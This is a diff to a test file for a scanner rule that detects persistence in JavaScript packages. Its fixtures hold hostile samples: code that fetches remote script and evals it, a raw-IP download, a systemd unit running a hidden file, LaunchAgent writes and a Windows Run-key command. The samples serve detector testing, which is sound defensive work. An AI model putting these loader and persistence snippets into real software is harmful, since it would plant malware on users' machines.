@@ -21,6 +21,15 @@ ruleTest(rule, {
   ],
   flagged: [
     {
+      name: 'large bundle: an auto-launch module far from an unrelated module that fetches and evals (medium, no loader context)',
+      file: 'dist/main.js',
+      code: `const fs = require('fs'), os = require('os');
+(function autoLaunch() { fs.writeFileSync(os.homedir() + '/Library/LaunchAgents/com.app.plist', '<plist/>'); })();
+${'var pad = 1;\n'.repeat(400)}(function devReload() { fetch('/__reload').then((r) => r.text()).then((t) => eval(t)); })();
+`,
+      findings: [{ line: 2, severity: 'medium', confidence: 'medium', message: /^Persistence: macOS LaunchAgent$/ }],
+    },
+    {
       name: 'shell completion installer appending to ~/.bashrc (low)',
       file: 'dist/completion.js',
       code: `const fs = require('fs'), os = require('os'), path = require('path');\nfs.appendFileSync(path.join(os.homedir(), '.bashrc'), 'source <(mycli completion bash)\\n');\n`,
@@ -49,7 +58,31 @@ axios.get('http://95.164.17.24:1224/client/5').then((r) => fs.writeFileSync('/tm
 fs.writeFileSync(process.env.HOME + '/.config/systemd/user/npm-cache.service', '[Service]\\nExecStart=node /tmp/.npl\\n');
 execSync('systemctl --user enable npm-cache && loginctl enable-linger');
 `,
-      findings: [{ line: 3, severity: 'high', confidence: 'high', message: /systemd user unit \(file also has raw-IP URL\)/ }],
+      findings: [{ line: 3, severity: 'high', confidence: 'high', message: /systemd user unit \(next to raw-IP URL\)/ }],
+    },
+    {
+      name: 'a template path ending in .profile (the quasi is a path, not a key suffix)',
+      file: 'src/setup.js',
+      code: "const fs = require('fs');\nfs.appendFileSync(`${process.env.HOME}/.profile`, 'export PATH=$PATH:/opt/x\\n');\n",
+      findings: [{ line: 2, severity: 'low' }],
+    },
+    {
+      name: 'LaunchAgent written by the function that fetches and evals, 200 lines apart (same function)',
+      file: 'lib/agent.js',
+      code: `const fs = require('fs'), os = require('os'), axios = require('axios');
+async function install() {
+  const r = await axios.get('https://cdn.example-update.net/a.js');
+  eval(r.data);
+${'  step();\n'.repeat(200)}  fs.writeFileSync(os.homedir() + '/Library/LaunchAgents/com.update.plist', '<plist/>');
+}
+`,
+      findings: [{ line: 205, severity: 'high', confidence: 'high', message: /next to network \+ eval/ }],
+    },
+    {
+      name: 'minified one-line loader: fetch, eval and the Run key a few characters apart',
+      file: 'index.min.js',
+      code: "const c=require('child_process'),h=require('https');h.get('https://x.example/p',r=>{let d='';r.on('data',k=>d+=k);r.on('end',()=>eval(d))});c.exec('reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v U /d x /f');\n",
+      findings: [{ line: 1, severity: 'high', message: /Windows Run key \(next to network \+ eval\)/ }],
     },
     {
       name: 'Run key via reg add',
